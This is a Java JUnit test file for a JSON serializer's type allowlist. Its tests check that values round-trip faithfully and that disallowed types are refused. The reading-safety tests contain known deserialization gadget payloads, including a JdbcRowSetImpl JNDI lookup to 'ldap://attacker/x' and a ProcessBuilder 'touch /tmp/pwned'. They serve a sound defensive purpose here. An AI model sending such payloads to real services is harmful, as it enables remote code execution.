package dev.txstep.serialization;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.txstep.InvalidConfigurationException;
import dev.txstep.OutputSerializationException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Proves what {@link JacksonSerializer} promises in its Javadoc, with no database:
 * <ul>
 *   <li><b>Fidelity</b>: for every supported kind of value, {@code deserialize(serialize(v))} is
 *       equal to {@code v} and of exactly the same class (a replayed step must hand back what the
 *       first execution returned, not a look-alike such as an Integer for a Long or a Double for a
 *       BigDecimal).</li>
 *   <li>Immutable JDK collections ({@code List.of}, {@code Map.of}) come back equal, as
 *       {@code ArrayList}/{@code LinkedHashMap}: the documented substitution.</li>
 *   <li><b>Safety</b>: a value of a type that is not allowed is refused when it is serialized (so
 *       the step fails before anything is recorded), and recorded text that names a type that is not
 *       allowed (JDK classes with side effects, well-known gadget classes, a class of ours with a
 *       constructor we can observe) is refused when it is read, without instantiating it. Corrupt
 *       text is an {@link OutputSerializationException}, never a raw Jackson exception.</li>
 * </ul>
 */
class JacksonSerializerTest {

    private final JacksonSerializer serializer = JacksonSerializer.create();

    // ---- value types used below (records are allowed by default; POJOs only when allowed) ----

    enum Color { RED, GREEN }

    record Address(String street, int number) {
    }

    record Line(String sku, long quantity, BigDecimal price) {
    }

    /** A record that nests a record, a list of records and a map of untyped values. */
    record Order(UUID id, Address shipTo, List<Line> lines, Map<String, Object> attributes, Color color,
            Instant placed) {
    }

    /** A mutable bean: only serializable when its package or class is allowed. */
    public static final class Money {
        private String currency;
        private BigDecimal amount;

        public Money() {
        }

        Money(String currency, BigDecimal amount) {
            this.currency = currency;
            this.amount = amount;
        }

        public String getCurrency() {
            return currency;
        }

        public void setCurrency(String currency) {
            this.currency = currency;
        }

        public BigDecimal getAmount() {
            return amount;
        }

        public void setAmount(BigDecimal amount) {
            this.amount = amount;
        }

        @Override
        public boolean equals(Object o) {
            return o instanceof Money m && Objects.equals(currency, m.currency) && Objects.equals(amount, m.amount);
        }

        @Override
        public int hashCode() {
            return Objects.hash(currency, amount);
        }
    }

    /**
     * What happened to {@link Canary}. Kept outside it so that reading the log does not itself
     * initialize the canary class.
     */
    static final class CanaryLog {
        static final AtomicInteger CONSTRUCTED = new AtomicInteger();
        static volatile boolean initialized;
    }

    /**
     * A class that records its initialization and every instantiation, to prove that refused text
     * never runs any of its code. Its package (dev.txstep) is not allowed by the default serializer.
     */
    public static final class Canary {
        static {
            CanaryLog.initialized = true;
        }

        private String payload;

        public Canary() {
            CanaryLog.CONSTRUCTED.incrementAndGet();
        }

        public String getPayload() {
            return payload;
        }

        public void setPayload(String payload) {
            CanaryLog.CONSTRUCTED.incrementAndGet(); // a setter is what gadget chains abuse
            this.payload = payload;
        }
    }

    // ---- fidelity ----

    static Stream<Arguments> scalars() {
        return Stream.of(
                Arguments.of("String", "hello, \"world\" \u00e9 \u2603 'quoted' $tag$ \\"),
                Arguments.of("empty String", ""),
                Arguments.of("Integer", 42),
                Arguments.of("negative Integer", Integer.MIN_VALUE),
                // A small Long must not come back as an Integer: JSON alone cannot tell them apart.
                Arguments.of("small Long", 7L),
                Arguments.of("large Long", Long.MAX_VALUE),
                Arguments.of("negative large Long", Long.MIN_VALUE + 1),
                Arguments.of("Double", 0.1 + 0.2),
                // A whole Double must not come back as an Integer or Long.
                Arguments.of("whole Double", 3.0),
                Arguments.of("Float", 1.1f),
                Arguments.of("Boolean true", Boolean.TRUE),
                Arguments.of("Boolean false", Boolean.FALSE),
                Arguments.of("BigDecimal with scale", new BigDecimal("1.50")),
                Arguments.of("BigDecimal large", new BigDecimal("123456789012345678901234567890.000000001")),
                Arguments.of("BigDecimal whole", new BigDecimal("100")),
                Arguments.of("BigInteger", new BigInteger("123456789012345678901234567890")),
                Arguments.of("BigInteger small", BigInteger.TEN),
                Arguments.of("UUID", UUID.fromString("123e4567-e89b-12d3-a456-426614174000")),
                Arguments.of("Instant", Instant.parse("2024-02-29T12:34:56.123456789Z")),
                Arguments.of("LocalDate", LocalDate.of(2024, 2, 29)),
                Arguments.of("enum", Color.GREEN));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("scalars")
    void scalarsRoundTripToAnEqualValueOfTheSameClass(String what, Object value) {
        assertRoundTrip(serializer, value);
    }

    @Test
    void bigDecimalKeepsItsScale() {
        // equals() on BigDecimal compares scale too, but say it outright: 1.50 is not 1.5.
        BigDecimal back = (BigDecimal) serializer.deserialize(serializer.serialize(new BigDecimal("1.50")));
        assertEquals(2, back.scale());
        assertEquals("1.50", back.toPlainString());
    }

    @Test
    void recordWithNestedRecordListOfRecordsAndMapOfLongs() {
        Map<String, Object> attributes = new LinkedHashMap<>();
        attributes.put("count", 3L); // a Long in an Object-typed map must stay a Long
        attributes.put("big", Long.MAX_VALUE);
        attributes.put("label", "gift");
        attributes.put("nested", new ArrayList<>(List.of(1L, 2L)));
        Order order = new Order(UUID.randomUUID(), new Address("Main St", 12),
                List.of(new Line("a-1", 2, new BigDecimal("9.90")), new Line("b-2", 1, new BigDecimal("0.10"))),
                attributes, Color.RED, Instant.parse("2024-01-01T00:00:00Z"));

        Order back = (Order) assertRoundTrip(serializer, order);
        assertSame(Long.class, back.attributes().get("count").getClass());
        assertSame(Long.class, back.attributes().get("big").getClass());
        assertSame(Long.class, ((List<?>) back.attributes().get("nested")).get(0).getClass());
        assertEquals(new BigDecimal("9.90"), back.lines().get(0).price());
    }

    @Test
    void pojoInAnAllowedPackageRoundTrips() {
        JacksonSerializer allowing = JacksonSerializer.builder().allowPackages("dev.txstep").build();
        assertRoundTrip(allowing, new Money("EUR", new BigDecimal("12.30")));
    }

    @Test
    void pojoOfAnAllowedTypeRoundTrips() {
        JacksonSerializer allowing = JacksonSerializer.builder().allowTypes(Money.class).build();
        assertRoundTrip(allowing, new Money("USD", new BigDecimal("0.01")));
    }

    @Test
    void mutableCollectionsRoundTripAsTheirOwnClass() {
        ArrayList<Object> list = new ArrayList<>(List.of("a", 1, 2L, new BigDecimal("3.0")));
        ArrayList<?> listBack = (ArrayList<?>) assertRoundTrip(serializer, list);
        assertSame(Long.class, listBack.get(2).getClass());
        assertSame(BigDecimal.class, listBack.get(3).getClass());

        LinkedHashMap<String, Object> map = new LinkedHashMap<>();
        map.put("z", 1L);
        map.put("a", "first?");
        map.put("m", List.of(1, 2));
        LinkedHashMap<?, ?> mapBack = (LinkedHashMap<?, ?>) assertRoundTrip(serializer, map);
        // LinkedHashMap keeps insertion order: the replayed map iterates as the original did.
        assertEquals(List.of("z", "a", "m"), new ArrayList<>(mapBack.keySet()));
    }

    @Test
    void immutableJdkCollectionsComeBackEqualAsArrayListAndLinkedHashMap() {
        // Documented: List.of / Map.of are recorded as their plain mutable counterparts.
        List<Integer> list = List.of(1, 2, 3);
        Object listBack = serializer.deserialize(serializer.serialize(list));
        assertEquals(list, listBack);
        assertSame(ArrayList.class, listBack.getClass());

        Map<String, Long> map = Map.of("one", 1L, "two", 2L);
        Object mapBack = serializer.deserialize(serializer.serialize(map));
        assertEquals(map, mapBack);
        assertSame(LinkedHashMap.class, mapBack.getClass());
        assertSame(Long.class, ((Map<?, ?>) mapBack).get("one").getClass());
    }

    @Test
    void emptyListsRoundTrip() {
        assertRoundTrip(serializer, new ArrayList<>());
        Object back = serializer.deserialize(serializer.serialize(List.of()));
        assertEquals(List.of(), back);
        assertSame(ArrayList.class, back.getClass());
    }

    @Test
    void nestedListsRoundTrip() {
        ArrayList<Object> nested = new ArrayList<>();
        nested.add(new ArrayList<>(List.of(1L, 2L)));
        nested.add(new ArrayList<>());
        nested.add(new ArrayList<>(List.of(new ArrayList<>(List.of("deep")))));
        ArrayList<?> back = (ArrayList<?>) assertRoundTrip(serializer, nested);
        assertSame(ArrayList.class, back.get(0).getClass());
        assertSame(Long.class, ((List<?>) back.get(0)).get(1).getClass());
    }

    // ---- safety: writing ----

    @Test
    void aPojoOfATypeThatIsNotAllowedIsRefusedWhenSerialized() {
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.serialize(new Money("EUR", BigDecimal.ONE)));
        assertTrue(e.getMessage().contains(Money.class.getName()), e.getMessage());
        assertTrue(e.getMessage().contains("allowTypes"), "the message says how to allow it: " + e.getMessage());
    }

    @Test
    void aPojoNestedInAListIsRefusedToo() {
        // The check is per value, not only at the root: a list of beans is refused as well.
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.serialize(new ArrayList<>(List.of(new Money("EUR", BigDecimal.ONE)))));
        assertTrue(e.getMessage().contains(Money.class.getName()), e.getMessage());
    }

    @Test
    void plainObjectAndThreadAreRefused() {
        OutputSerializationException object = assertThrows(OutputSerializationException.class,
                () -> serializer.serialize(new Object()));
        assertTrue(object.getMessage().contains("java.lang.Object"), object.getMessage());
        OutputSerializationException thread = assertThrows(OutputSerializationException.class,
                () -> serializer.serialize(new Thread(() -> { })));
        assertTrue(thread.getMessage().contains("java.lang.Thread"), thread.getMessage());
    }

    @Test
    void allowRecordsFalseRefusesARecordThatIsNotOtherwiseAllowed() {
        JacksonSerializer strict = JacksonSerializer.builder().allowRecords(false).build();
        Address address = new Address("Main St", 1);
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> strict.serialize(address));
        assertTrue(e.getMessage().contains(Address.class.getName()), e.getMessage());
        // And text written by a serializer that allowed it is refused when read by the strict one.
        String recorded = serializer.serialize(address);
        OutputSerializationException read = assertThrows(OutputSerializationException.class,
                () -> strict.deserialize(recorded));
        assertTrue(read.getMessage().contains(Address.class.getName()), read.getMessage());
        // Allowing the record's class explicitly lets it through again.
        JacksonSerializer strictButAllowing = JacksonSerializer.builder().allowRecords(false)
                .allowTypes(Address.class).build();
        assertRoundTrip(strictButAllowing, address);
    }

    // ---- safety: reading ----

    @Test
    void textNamingACanaryClassIsRefusedAndNeverInstantiated() {
        String text = "{\"@type\":\"" + Canary.class.getName() + "\",\"payload\":\"boom\"}";
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.deserialize(text));
        assertTrue(e.getMessage().contains(Canary.class.getName()), e.getMessage());
        // Wrapped in an allowed collection, the same class is refused as well.
        String inList = "[\"java.util.ArrayList\",[{\"@type\":\"" + Canary.class.getName() + "\",\"payload\":\"x\"}]]";
        assertThrows(OutputSerializationException.class, () -> serializer.deserialize(inList));
        // Nothing of the class ran: no constructor, no setter, not even its static initializer.
        assertEquals(0, CanaryLog.CONSTRUCTED.get(), "the refused class was never constructed");
        assertFalse(CanaryLog.initialized, "the refused class was never initialized");
    }

    @Test
    void fileHandlerIsRefused() {
        // FileHandler's constructor opens (creates) a log file: instantiating it would be a side effect.
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.deserialize("{\"@type\":\"java.util.logging.FileHandler\",\"encoding\":\"UTF-8\"}"));
        assertTrue(e.getMessage().contains("java.util.logging.FileHandler"), e.getMessage());
    }

    @Test
    void urlInScalarWrapperFormIsRefused() {
        // java.net.URL's equals/hashCode resolve the host: a classic DNS gadget.
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.deserialize("[\"java.net.URL\",\"http://x\"]"));
        assertTrue(e.getMessage().contains("java.net.URL"), e.getMessage());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}",
            "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}]",
            "{\"@type\":\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"configLocation\":\"http://x\"}",
            "[\"java.util.ArrayList\",[[\"java.net.URL\",\"http://x\"]]]",
            "[\"java.util.LinkedHashMap\",{\"k\":[\"java.net.InetAddress\",\"x\"]}]",
            "[\"[Ljava.net.URL;\",[\"http://x\"]]",
            "{\"@type\":\"javax.script.ScriptEngineManager\"}",
            "[\"java.lang.ProcessBuilder\",[\"touch\",\"/tmp/pwned\"]]"
    })
    void wellKnownGadgetsAreRefused(String text) {
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.deserialize(text));
        assertNotNull(e.getCause(), "the serializer's own failure is kept as the cause");
        assertFalse(e.getMessage().isBlank());
    }

    @ParameterizedTest
    @ValueSource(strings = {"{not json", "", "[\"java.lang.Long\"", "[\"java.lang.Long\",\"not a number\"]",
            "{\"@type\":\"java.util.ArrayList\"", "[\"dev.txstep.NoSuchClassAnywhere\",{}]", "}"})
    void corruptTextIsAnOutputSerializationException(String text) {
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.deserialize(text));
        assertTrue(e.getMessage().startsWith("cannot deserialize recorded JSON"), e.getMessage());
    }

    // ---- values that once did not round-trip, and what is done about them now ----

    /**
     * An {@code OffsetDateTime} or {@code ZonedDateTime} keeps its offset and zone (Jackson would
     * otherwise adjust it to UTC: the same instant, but not an equal value).
     */
    @Test
    void offsetAndZonedDateTimesKeepTheirOffsetAndZone() {
        assertRoundTrip(serializer, OffsetDateTime.parse("2024-01-01T10:00:00+02:00"));
        assertRoundTrip(serializer, ZonedDateTime.parse("2024-01-01T10:00:00+01:00[Europe/Paris]"));
    }

    /**
     * {@code Optional} as a whole output would be written as its content and come back unwrapped
     * (a bare {@code Long}, or null for empty), so it is refused when written rather than recorded
     * wrong. As a record component with a declared type it round-trips (next test).
     */
    @Test
    void anOptionalOutputIsRefusedRatherThanRecordedUnwrapped() {
        OutputSerializationException e = assertThrows(OutputSerializationException.class,
                () -> serializer.serialize(Optional.of(5L)));
        assertTrue(e.getMessage().contains("java.util.Optional"), e.getMessage());
        assertThrows(OutputSerializationException.class, () -> serializer.serialize(Optional.empty()));
    }

    @Test
    void anOptionalRecordComponentRoundTrips() {
        record Maybe(Optional<Long> value, Optional<String> none) {
        }
        Maybe back = (Maybe) assertRoundTrip(serializer, new Maybe(Optional.of(5L), Optional.empty()));
        assertEquals(Long.class, back.value().orElseThrow().getClass());
    }

    /**
     * A map whose keys are not Strings, in a position whose declared type does not name the key
     * type, would come back with String keys ({@code map.get(1)} null after a replay). It is refused
     * when written, with a message saying what to do.
     */
    @Test
    void mapsWithNonStringKeysInUntypedPositionsAreRefused() {
        LinkedHashMap<Object, Object> map = new LinkedHashMap<>();
        map.put(1, "int key");
        map.put(Color.RED, "enum key");
        OutputSerializationException e = assertThrows(OutputSerializationException.class, () -> serializer.serialize(map));
        assertTrue(e.getMessage().contains("String keys"), e.getMessage());
        assertThrows(OutputSerializationException.class, () -> serializer.serialize(List.of(Map.of(1, "nested"))));
    }

    /** Control for the test above: the declared key type of a record component is kept. */
    @Test
    void nonStringKeysOfADeclaredMapTypeRoundTrip() {
        record Index(Map<Integer, String> byNumber) {
        }
        Index index = new Index(new LinkedHashMap<>(Map.of(1, "one", 2, "two")));
        Index back = (Index) assertRoundTrip(serializer, index);
        assertEquals("one", back.byNumber().get(1));
    }

    @Test
    void theSerializerIsNamedJackson() {
        assertEquals("jackson", serializer.name());
        assertEquals(JacksonSerializer.NAME, JacksonSerializer.builder().build().name());
    }

    @Test
    void builderRefusesBlankPackagesAndNullTypes() {
        assertThrows(InvalidConfigurationException.class, () -> JacksonSerializer.builder().allowPackages(" "));
        assertThrows(InvalidConfigurationException.class,
                () -> JacksonSerializer.builder().allowTypes((Class<?>) null));
    }

    /** Asserts fidelity and returns the value read back, for further checks. */
    private static Object assertRoundTrip(JacksonSerializer serializer, Object value) {
        String text = serializer.serialize(value);
        Object back = serializer.deserialize(text);
        assertEquals(value, back, () -> "round trip of " + value.getClass().getName() + " via " + text);
        assertInstanceOf(value.getClass(), back);
        assertSame(value.getClass(), back.getClass(), () -> "class after a round trip via " + text);
        return back;
    }
}
